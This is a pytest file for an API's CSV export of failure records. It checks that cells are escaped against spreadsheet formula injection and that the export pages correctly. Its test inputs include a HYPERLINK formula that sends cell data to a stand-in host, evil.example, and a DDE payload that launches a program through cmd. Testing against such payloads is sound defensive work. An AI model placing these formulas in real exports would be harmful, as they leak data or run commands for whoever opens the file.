"""Failures as CSV: a spreadsheet reads each cell as the text that it is, and every failure is there once."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from io import StringIO
from typing import TYPE_CHECKING

import pytest

from orchestrator.api import failures
from orchestrator.api.sheets import COLUMNS, cell
from tests.recovery import failed_event

if TYPE_CHECKING:
    from tests.unit.orchestrator.api.conftest import Served

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (FORMULA, f"'{FORMULA}"),
        ("+1", "'+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),
        ("\r=1", "' =1"),
        ("\x00\u200b=1", "'=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("a\nb\x1b[31mc\u202ed", "a b[31mcd"),
        ('plain, "quoted" = 1', 'plain, "quoted" = 1'),
        (-3, "-3"),
        (True, "true"),
        (None, ""),
        ({"customer": "42"}, '{"customer":"42"}'),
        (datetime(2025, 11, 20, tzinfo=UTC), "2025-11-20T00:00:00+00:00"),
    ],
    ids=lambda each: ascii(each)[:20],
)
def test_no_cell_is_a_formula(value: object, text: str) -> None:
    """What a spreadsheet would compute gets an apostrophe; what is not seen is left out; numbers stay numbers."""
    assert cell(value) == text


def test_every_failure_is_a_row_however_many_pages(api: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    """Page by page, each failure once, with the columns' names first; the filters hold."""
    monkeypatch.setattr(failures, "MOST", 4)
    api.scene.take_in(*(failed_event(number) for number in range(12)), failed_event(12, task=FORMULA))
    answer = api.ask("GET", "/api/v1/failures", headers={"Accept": "text/csv"})
    assert answer.headers["content-type"].startswith("text/csv")
    head, *rows = csv.reader(StringIO(answer.content.decode(), newline=""))
    assert tuple(head) == COLUMNS
    assert [row[1] for row in rows] == [f"t{number}" for number in range(13)]
    assert rows[12][2] == f"'{FORMULA}"
    one = api.ask("GET", "/api/v1/failures?task=app.*&limit=3", headers={"Accept": "text/csv"})
    assert len(one.text.splitlines()) == 13


def test_json_is_given_to_whoever_does_not_ask_for_csv(api: Served) -> None:
    """In pages, as before."""
    api.scene.take_in(failed_event(0))
    assert api.ask("GET", "/api/v1/failures").json()["failures"][0]["task_id"] == "t0"
